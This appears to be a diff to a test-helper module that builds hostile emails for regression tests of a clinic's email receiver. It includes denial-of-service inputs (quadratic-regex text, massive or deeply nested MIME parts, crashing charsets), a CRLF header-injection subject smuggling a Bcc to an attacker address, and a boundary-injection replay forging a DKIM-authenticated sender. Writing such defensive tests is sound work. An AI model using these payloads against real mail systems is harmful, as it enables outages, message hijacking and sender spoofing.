@@ -223,3 +223,118 @@ def boundary_replay(sender: str, message_id: str | None = None,
     content_type, body = parsed_post(sender, text="hi" + injected.decode(),
                                      message_id=message_id)
     return content_type, body, "multipart/form-data; boundary=EVIL"
+
+
+# --------------------------------------------------------------------------------------------
+# Ordinary and hostile emails of issue #26, reusable by any test (the clinic-day scenario and
+# the hostile-input classes in tests/reliability/input_scenarios.py use them).
+# --------------------------------------------------------------------------------------------
+
+def photo(size: int, seed: int = 0) -> bytes:
+    """`size` bytes shaped like a phone camera's JPEG (SOI/APP0 header, incompressible body,
+    EOI), so no layer can shrink it by compression."""
+    import random
+
+    head = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
+    body = random.Random(seed).randbytes(max(0, size - len(head) - 2))
+    return head + body + b"\xff\xd9"
+
+
+def quoted_history(turns: int, width: int = 72) -> str:
+    """A reply over a long thread as mail clients write it: each earlier turn quoted one level
+    deeper under an "On <date>, <name> wrote:" line (what a quote stripper must cut)."""
+    text = "Thanks, see you then."
+    for n in range(turns):
+        quoted = "\n".join("> " + line for line in text.splitlines())
+        filler = f"Earlier message number {n} about the appointment and the results. " * 3
+        text = (f"Reply {n}: {filler[:width]}\n\nOn Mon, 7 Dec 2026 at 09:{n % 60:02d}, "
+                f"Clinic <care@clinic.example> wrote:\n{quoted}")
+    return text
+
+
+def quadratic_quote_text(size: int) -> str:
+    """Finding 2: `"On "` repeated to `size` characters. mail-parser-reply's quote-stripping
+    regex is quadratic on it (13 s at 24 KB, 187 s at 90 KB on the issue's machine)."""
+    return ("On " * (size // 3 + 1))[:size]
+
+
+def one_line_parts_email(sender: str, size: int, message_id: str | None = None) -> bytes:
+    """Finding 3: a raw MIME email of ~`size` bytes made of one-line text parts (a 1.8 MB one
+    took 24 s of the receiver's CPU; 7.5 MB, 200k parts, hit gunicorn's worker timeout)."""
+    boundary = "p" + uuid.uuid4().hex
+    head = (f"From: <{sender}>\r\nTo: {CLINIC_MAILBOX}\r\nSubject: parts\r\n"
+            f"Date: {formatdate(localtime=False)}\r\n"
+            f"Message-ID: {message_id or new_message_id()}\r\nMIME-Version: 1.0\r\n"
+            f'Content-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n').encode()
+    part = f"--{boundary}\r\nContent-Type: text/plain\r\n\r\nx\r\n".encode()
+    count = max(1, (size - len(head)) // len(part))
+    return head + part * count + f"--{boundary}--\r\n".encode()
+
+
+def nested_multipart_email(sender: str, depth: int = 1200,
+                           message_id: str | None = None) -> bytes:
+    """Finding 7: multiparts nested `depth` deep (1,200 raised RecursionError: a 500)."""
+    head = (f"From: <{sender}>\r\nTo: {CLINIC_MAILBOX}\r\nSubject: nested\r\n"
+            f"Date: {formatdate(localtime=False)}\r\n"
+            f"Message-ID: {message_id or new_message_id()}\r\nMIME-Version: 1.0\r\n")
+    opening, closing = [], []
+    for n in range(depth):
+        opening.append(f'Content-Type: multipart/mixed; boundary="n{n}"\r\n\r\n--n{n}\r\n')
+        closing.append(f"\r\n--n{n}--\r\n")
+    inner = "Content-Type: text/plain\r\n\r\nhello\r\n"
+    return (head + "".join(opening) + inner + "".join(reversed(closing))).encode()
+
+
+# Finding 7: charsets that raised UnicodeError/ValueError in the receiver (each a 500, which
+# SendGrid retries for 72 h): (charset parameter as sent, body bytes).
+HOSTILE_CHARSETS: dict[str, tuple[bytes, bytes]] = {
+    "undefined": (b"undefined", b"Hello, I need to move my appointment."),
+    "punycode-escape": (b"punycode", b"Hello \\N{x and more"),
+    "nul-in-name": (b"utf-8\x00x", b"Hello, NUL in the charset name."),
+}
+
+
+def charset_email(sender: str, charset: bytes, body: bytes,
+                  message_id: str | None = None) -> bytes:
+    """A raw single-part email declaring `charset` (bytes: it may hold a NUL)."""
+    head = (f"From: <{sender}>\r\nTo: {CLINIC_MAILBOX}\r\nSubject: charset\r\n"
+            f"Date: {formatdate(localtime=False)}\r\n"
+            f"Message-ID: {message_id or new_message_id()}\r\nMIME-Version: 1.0\r\n").encode()
+    return (head + b'Content-Type: text/plain; charset="' + charset + b'"\r\n'
+            b"Content-Transfer-Encoding: 8bit\r\n\r\n" + body + b"\r\n")
+
+
+def crlf_subject_email(sender: str, message_id: str | None = None,
+                       text: str = "Question about my results") -> bytes:
+    """Finding 13: a Subject that decodes (RFC 2047) to `Hi\\r\\nBcc: …`; it became the thread
+    topic and then the subject of the clinic's emailed reply."""
+    import base64 as b64
+
+    evil = b64.b64encode(b"Hi\r\nBcc: attacker@hostile.example").decode()
+    head = (f"From: <{sender}>\r\nTo: {CLINIC_MAILBOX}\r\nSubject: =?utf-8?b?{evil}?=\r\n"
+            f"Date: {formatdate(localtime=False)}\r\n"
+            f"Message-ID: {message_id or new_message_id()}\r\nMIME-Version: 1.0\r\n"
+            "Content-Type: text/plain; charset=utf-8\r\n\r\n")
+    return (head + text + "\r\n").encode()
+
+
+def boundary_injection(attacker: str, victim: str, text: str = "injected by a replay"
+                       ) -> tuple[tuple[str, bytes], str]:
+    """Finding 6: the attacker's own, genuinely signed parsed-mode post, whose text holds a
+    second multipart (boundary `EVIL`) claiming a DKIM-authenticated email from `victim`.
+    Returns (the honest post, the Content-Type to replay it with): the signature covers the
+    body, not the boundary in the unsigned Content-Type header."""
+    domain = victim.rsplit("@", 1)[-1]
+    fields = [
+        ("headers", f"From: <{victim}>\nTo: {CLINIC_MAILBOX}\nSubject: hello\n"
+                    f"Message-ID: {new_message_id()}"),
+        ("from", f"<{victim}>"), ("to", CLINIC_MAILBOX), ("subject", "hello"),
+        ("text", text), ("dkim", f"{{@{domain} : pass}}"), ("SPF", "pass"),
+        ("envelope", json.dumps({"to": [CLINIC_MAILBOX], "from": victim})),
+        ("charsets", json.dumps({"text": "UTF-8", "subject": "UTF-8", "from": "UTF-8",
+                                 "to": "UTF-8"})), ("attachments", "0"),
+    ]
+    inner = "".join(f'--EVIL\r\nContent-Disposition: form-data; name="{n}"\r\n\r\n{v}\r\n'
+                    for n, v in fields) + "--EVIL--\r\n"
+    honest = parsed_post(attacker, text="see below\r\n" + inner)
+    return honest, "multipart/form-data; boundary=EVIL"
